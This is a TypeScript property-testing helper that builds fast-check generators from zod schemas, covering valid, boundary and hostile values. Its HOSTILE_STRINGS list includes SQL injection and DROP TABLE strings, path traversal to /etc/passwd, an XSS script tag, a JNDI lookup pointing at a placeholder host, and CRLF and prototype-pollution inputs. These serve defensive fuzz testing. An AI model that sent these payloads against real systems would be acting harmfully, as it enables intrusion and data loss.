// fast-check arbitraries from the contract's zod schemas (zod 4 definitions): values the schema
// accepts (formats, lengths, bounds, enums), its boundaries, and values no schema should trust.
import fc from 'fast-check';
import type { ZodType } from 'zod';

interface Definition {
  readonly type: string;
  readonly format?: string;
  readonly checks?: readonly { readonly _zod: { readonly def: CheckDefinition } }[];
  readonly shape?: Record<string, ZodType>;
  readonly innerType?: ZodType;
  readonly in?: ZodType;
  readonly out?: ZodType;
  readonly options?: readonly ZodType[];
  readonly entries?: Record<string, string | number>;
  readonly values?: readonly unknown[];
  readonly element?: ZodType;
  readonly keyType?: ZodType;
  readonly valueType?: ZodType;
  readonly left?: ZodType;
  readonly getter?: () => ZodType;
}

interface CheckDefinition {
  readonly check: string;
  readonly format?: string;
  readonly pattern?: RegExp;
  readonly minimum?: number;
  readonly maximum?: number;
  readonly value?: number;
  readonly inclusive?: boolean;
}

const definitionOf = (schema: ZodType): Definition => (schema as unknown as { _zod: { def: Definition } })._zod.def;
const checksOf = (definition: Definition): CheckDefinition[] => (definition.checks ?? []).map((check) => check._zod.def);

/** Values for a field, by its name: ids of the world's records, so generated requests reach real rows. */
export type FieldHints = Readonly<Record<string, fc.Arbitrary<unknown>>>;

/** Text that has broken parsers, SQL builders, path handling and logs elsewhere. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x10',
  '9'.repeat(40),
  "' OR '1'='1",
  "'; DROP TABLE loans; --",
  'SELECT * FROM identities',
  '1; SELECT pg_sleep(1)',
  '%',
  '%%',
  '%25',
  '%00',
  '%zz',
  '\u0000',
  'a\u0000b',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '..\\..\\windows',
  '<script>alert(1)</script>',
  '${jndi:ldap://x.test/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '\\',
  '"',
  "'",
  ',',
  ',,,',
  'é漢字🙂',
  '\u202e\u0645',
  '\ud800',
  '\r\nX-Injected: 1',
  'x'.repeat(300),
  'x'.repeat(5000),
];

export const hostileString = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 64 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 64 }) },
    { weight: 1, arbitrary: fc.string({ maxLength: 300 }) },
  );

/** Any JSON value of a wrong kind: numbers at their limits, objects, arrays, nested values. */
export const hostileValue = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    { weight: 4, arbitrary: hostileString() },
    {
      weight: 2,
      arbitrary: fc.constantFrom<unknown>(null, true, false, 0, -1, -0, 2 ** 53, -(2 ** 63), 1e308, 0.5, [], {}, [null], { $gt: '' }),
    },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  );

// Mostly plausible dates, and the whole range an ISO check takes (years 0000 to 9999): year 0000
// once passed every check and failed in PostgreSQL, which has no year 0.
const anyIsoYear = { min: new Date('0000-01-01T00:00:00Z'), max: new Date('9999-12-31T23:59:59Z'), noInvalidDate: true };
const plausible = { min: new Date('1900-01-01T00:00:00Z'), max: new Date('2199-12-31T00:00:00Z'), noInvalidDate: true };
const edgeDates = ['0000-01-01T00:00:00Z', '0000-12-31T23:59:59Z', '0001-01-01T00:00:00Z', '9999-12-31T23:59:59Z'].map(
  (text) => new Date(text),
);
const fuzzDate = () =>
  fc.oneof(
    { weight: 3, arbitrary: fc.date(plausible) },
    { weight: 1, arbitrary: fc.date(anyIsoYear) },
    { weight: 1, arbitrary: fc.constantFrom(...edgeDates) },
  );
const isoDate = () => fuzzDate().map((date) => date.toISOString().slice(0, 10));
const isoDateTime = () => fuzzDate().map((date) => date.toISOString());

function stringArbitrary(definition: Definition): fc.Arbitrary<string> {
  const checks = checksOf(definition);
  const format = definition.format ?? checks.find((check) => check.check === 'string_format')?.format;
  const pattern = checks.find((check) => check.format === 'regex')?.pattern;
  if (format === 'uuid' || format === 'guid') return fc.uuid();
  if (format === 'email') return fc.emailAddress();
  if (format === 'date') return isoDate();
  if (format === 'datetime') return isoDateTime();
  if (format === 'regex' && pattern) return fc.stringMatching(pattern);
  const minLength = checks.find((check) => check.check === 'min_length')?.minimum ?? 0;
  const maxLength = checks.find((check) => check.check === 'max_length')?.maximum;
  const cap = Math.min(maxLength ?? 40, Math.max(minLength, 40));
  return fc.oneof(
    { weight: 5, arbitrary: fc.string({ minLength, maxLength: cap }) },
    // The boundaries: exactly the longest accepted, and one more.
    ...(maxLength !== undefined && maxLength <= 100_000
      ? [
          { weight: 1, arbitrary: fc.constant('m'.repeat(maxLength)) },
          { weight: 1, arbitrary: fc.constant('m'.repeat(maxLength + 1)) },
        ]
      : []),
  );
}

function numberArbitrary(definition: Definition): fc.Arbitrary<number> {
  const checks = checksOf(definition);
  const integer = checks.some((check) => check.check === 'number_format' && (check.format === 'safeint' || check.format === 'int32'));
  const lower = checks.find((check) => check.check === 'greater_than')?.value;
  const upper = checks.find((check) => check.check === 'less_than')?.value;
  const min = lower ?? -1_000_000;
  const max = upper ?? 1_000_000;
  const inRange = integer ? fc.integer({ min: Math.ceil(min), max: Math.floor(max) }) : fc.double({ min, max, noNaN: true });
  const edges = [min, max, min - 1, max + 1, 0, 10, 20, 50, 100].filter((value) => Number.isFinite(value));
  return fc.oneof({ weight: 3, arbitrary: inRange }, { weight: 2, arbitrary: fc.constantFrom(...edges) });
}

/**
 * Values for `schema`. `hints` replace a field's values by name (with the schema's own kept beside
 * them). Refinements are not followed: a value may still fail them, as real callers' values do.
 */
export function arbitraryOf(schema: ZodType, hints: FieldHints = {}, depth = 0): fc.Arbitrary<unknown> {
  const definition = definitionOf(schema);
  if (depth > 6) return fc.constant(null);
  const inner = (child: ZodType) => arbitraryOf(child, hints, depth + 1);
  switch (definition.type) {
    case 'object': {
      const shape = definition.shape ?? {};
      const keys = Object.keys(shape);
      const fields: Record<string, fc.Arbitrary<unknown>> = {};
      const required: string[] = [];
      for (const key of keys) {
        const child = shape[key] as ZodType;
        const hint = hints[key];
        const own = inner(child);
        fields[key] = hint ? fc.oneof({ weight: 3, arbitrary: hint }, { weight: 1, arbitrary: own }) : own;
        const childType = definitionOf(child).type;
        if (childType !== 'optional' && childType !== 'default' && childType !== 'prefault') required.push(key);
      }
      return fc.record(fields, { requiredKeys: required });
    }
    case 'optional':
    case 'default':
    case 'prefault':
      return fc.option(inner(definition.innerType as ZodType), { nil: undefined, freq: 3 });
    case 'nullable':
      return fc.option(inner(definition.innerType as ZodType), { nil: null, freq: 4 });
    case 'readonly':
    case 'catch':
    case 'nonoptional':
      return inner(definition.innerType as ZodType);
    case 'pipe': {
      // A preprocess is a pipe from a transform: its values are those of the schema it feeds.
      const from = definition.in as ZodType;
      return inner(definitionOf(from).type === 'transform' ? (definition.out as ZodType) : from);
    }
    case 'lazy':
      return definition.getter ? inner(definition.getter()) : fc.constant(null);
    case 'string':
      return stringArbitrary(definition);
    case 'number':
      return numberArbitrary(definition);
    case 'bigint':
      return fc.bigInt({ min: -(2n ** 64n), max: 2n ** 64n }).map(String);
    case 'boolean':
      return fc.boolean();
    case 'enum':
      return fc.constantFrom(...Object.values(definition.entries ?? { none: 'none' }));
    case 'literal':
      return fc.constantFrom(...(definition.values ?? [null]));
    case 'array': {
      const checks = checksOf(definition);
      const minLength = checks.find((check) => check.check === 'min_length')?.minimum ?? 0;
      const maxLength = checks.find((check) => check.check === 'max_length')?.maximum ?? 10;
      return fc.array(inner(definition.element as ZodType), {
        minLength: Math.min(minLength, 5),
        maxLength: Math.min(maxLength, Math.max(minLength, 5)),
      });
    }
    case 'union':
      return fc.oneof(...(definition.options ?? []).map(inner));
    case 'intersection':
      return inner(definition.left as ZodType);
    case 'record':
      return fc.dictionary(fc.string({ maxLength: 10 }), inner(definition.valueType as ZodType), { maxKeys: 4 });
    case 'null':
      return fc.constant(null);
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/** The keys of an object schema (through optional, default and pipe wrappers), else none. */
export function objectKeysOf(schema: ZodType | undefined): string[] {
  if (!schema) return [];
  const definition = definitionOf(schema);
  if (definition.type === 'object') return Object.keys(definition.shape ?? {});
  if (definition.innerType) return objectKeysOf(definition.innerType);
  if (definition.in) return objectKeysOf(definition.in);
  return [];
}
